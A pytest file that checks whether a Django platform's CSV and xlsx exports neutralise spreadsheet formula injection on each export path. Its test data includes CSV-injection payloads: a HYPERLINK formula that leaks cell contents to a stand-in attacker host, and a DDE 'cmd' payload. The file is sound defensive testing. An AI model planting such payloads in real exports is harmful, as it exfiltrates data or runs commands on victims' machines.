"""Exports neutralise formulas (OWASP CSV injection): text starting with = + - @, a tab or a carriage
return is written as text in every xlsx and CSV the platform writes (core/exports.py), on every path."""

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
import xlsxwriter
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.roles import Role
from audit.models import Action
from audit.services import log_access
from core.exports import FORMULA_TRIGGERS, is_formula_like, safe_cell, safe_row, write_row

ROOT = Path(__file__).resolve().parents[2]
NASTY = [
    '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


# The helper itself -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", NASTY)
def test_formula_like_text_gets_a_leading_apostrophe_in_csv(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Jens", "", "Ærø", "1+1", " =1", "010190-XXXX", "a=b"])
def test_ordinary_text_is_left_as_it_is(value):
    assert safe_cell(value) == value and not is_formula_like(value)


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, True, date(2026, 1, 2)])
def test_numbers_dates_and_empty_cells_are_left_untouched(value):
    assert safe_cell(value) is value


def test_the_triggers_are_owasps():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert safe_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def test_xlsx_rows_write_text_as_text_and_numbers_as_numbers():
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("Ark")
    write_row(sheet, 0, 0, [*NASTY, 42, -1.5, None, "Jens"])
    book.close()
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    for cell, text in zip(cells, NASTY):
        # text, exactly as typed, never a formula (openpyxl reads XlsxWriter's escaped CR back as _x000D_)
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == text
    assert [c.value for c in cells[len(NASTY) :]] == [42, -1.5, None, "Jens"]
    assert cells[len(NASTY)].data_type == "n"


def test_every_spreadsheet_writer_goes_through_the_helper():
    """A new xlsx or CSV export anywhere in the project must use core/exports.py."""
    writer = re.compile(
        r"csv\.(writer|DictWriter)\(|xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|\bWorkbook\(\)"
    )
    skip = {".venv", "node_modules", "tests", "e2e", "benchmarks", "migrations"}
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT)
        if skip & set(rel.parts) or rel == Path("core/exports.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if writer.search(text) and "core.exports import" not in text:
            offenders.append(str(rel))
    assert offenders == [], f"spreadsheet writers that bypass core/exports.py: {offenders}"


# Every export path, with citizens and texts that look like formulas ----------------------------------


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))


def _xlsx_cells(response, *sheets):
    """The cells of the named sheets (else the first); a streamed file is read once."""
    book = load_workbook(io.BytesIO(response.getvalue()))
    return [c for ws in ([book[s] for s in sheets] or [book.active]) for row in ws.iter_rows() for c in row]


@pytest.fixture
def nasty_people(worker_a, person_factory):
    start = timezone.localdate() - timedelta(days=10)
    return [
        person_factory(worker_a, first_name=NASTY[0], last_name="+1", initials="@SUM(1)", start=start),
        person_factory(worker_a, first_name="-2+3", last_name="\t=1+1", start=start),
    ]


@pytest.mark.django_db
def test_the_by_name_list_csv_neutralises_formulas(login, users_a, nasty_people):
    rows = _csv(login(users_a[Role.LEADER]).get(reverse("people:export", args=["csv"])))
    cells = {c for r in rows[1:] for c in r}
    assert {"'" + NASTY[0], "'+1", "'@SUM(1)", "'-2+3", "'\t=1+1"} <= cells
    assert not any(is_formula_like(c) for c in cells)


@pytest.mark.django_db
def test_the_by_name_list_xlsx_writes_formulas_as_text(login, users_a, nasty_people):
    cells = _xlsx_cells(login(users_a[Role.LEADER]).get(reverse("people:export", args=["xlsx"])))
    nasty = [c for c in cells if is_formula_like(c.value)]
    assert {c.value for c in nasty} == {NASTY[0], "+1", "@SUM(1)", "-2+3", "\t=1+1"}
    assert all(c.data_type == "s" for c in nasty)


@pytest.mark.django_db
def test_the_citizens_access_report_csv_neutralises_formulas(login, users_a, municipality_a, nasty_people):
    person = nasty_people[0]
    log_access(
        actor=users_a[Role.LEADER],
        municipality=municipality_a,
        action=Action.READ,
        purpose="=1+1",
        person_id=person.pk,
        role="@SUM(1)",
    )
    rows = _csv(login(users_a[Role.LEADER]).get(reverse("audit:person_export", args=[person.pk])))
    cells = [c for r in rows[1:] for c in r]
    assert "'=1+1" in cells and "'@SUM(1)" in cells
    assert not any(is_formula_like(c) for c in cells)


@pytest.mark.django_db
def test_the_fidelity_results_xlsx_writes_formulas_as_text(login, users_a, municipality_a):
    from fidelity import services
    from fidelity.models import Statement
    from fidelity.quarters import Quarter
    from fidelity.tests.factories import leader_actor, make_unit

    leader = leader_actor(users_a, municipality_a)
    unit = make_unit(leader, name=NASTY[0])
    assessment = services.assessment_start(actor=leader, unit=unit, quarter=Quarter(2026, 1))
    statements = list(
        Statement.objects.filter(theme__form_version=assessment.form_version).order_by("number")
    )
    answers = {s.id: (3, "") for s in statements}
    answers[statements[0].id] = (2, "@SUM(1)")
    services.assessment_save(
        actor=leader,
        assessment=assessment,
        meeting={"meeting_on": date(2026, 3, 1), "participants": "Alle"},
        answers=answers,
        new_actions=[
            {
                "statement_id": statements[0].id,
                "what": "+45 12 34 56 78",
                "who": "-Leder",
                "due_on": date(2026, 6, 30),
            }
        ],
        follow_ups={},
        complete=True,
        now=timezone.now(),
    )
    url = reverse("fidelity:results_export", args=["xlsx"]) + f"?enhed={unit.pk}&kvartal=2026-K1"
    response = login(users_a[Role.LEADER]).get(url)
    cells = _xlsx_cells(response, "Udsagn", "Handlinger")
    nasty = [c for c in cells if is_formula_like(c.value)]
    assert {c.value for c in nasty} == {NASTY[0], "@SUM(1)", "+45 12 34 56 78", "-Leder"}
    assert all(c.data_type == "s" for c in nasty)


# Streamed, in constant memory (issue 11 item 7) -------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_by_name_list_export_is_streamed_from_a_temporary_file(fmt, login, users_a, nasty_people):
    response = login(users_a[Role.LEADER]).get(reverse("people:export", args=[fmt]))
    assert response.status_code == 200 and response.streaming
    assert int(response["Content-Length"]) == len(response.getvalue()) > 0
    assert response["Content-Disposition"].startswith('attachment; filename="hjemloeselisten-')


@pytest.mark.django_db
def test_the_citizens_access_report_csv_is_streamed(login, users_a, nasty_people):
    response = login(users_a[Role.LEADER]).get(reverse("audit:person_export", args=[nasty_people[0].pk]))
    assert response.status_code == 200 and response.streaming


@pytest.mark.django_db
def test_xlsx_workbooks_are_written_in_constant_memory(login, users_a, nasty_people, monkeypatch):
    from core import exports

    made = []
    real = xlsxwriter.Workbook

    def recording(target, options=None):
        made.append((target, options))
        return real(target, options)

    monkeypatch.setattr(exports.xlsxwriter, "Workbook", recording)
    response = login(users_a[Role.LEADER]).get(reverse("people:export", args=["xlsx"]))
    assert response.status_code == 200
    [(target, options)] = made
    assert options == {"constant_memory": True}  # never in_memory, which turns constant memory off
    assert not isinstance(target, (str, io.BytesIO))  # a temporary file without a name on disk
    assert load_workbook(io.BytesIO(response.getvalue())).active.max_row == 3


def test_no_workbook_is_built_in_memory():
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not {".venv", "node_modules", "tests", "e2e", "benchmarks"} & set(path.relative_to(ROOT).parts)
        and "in_memory" in path.read_text(encoding="utf-8")
    ]
    assert offenders == []
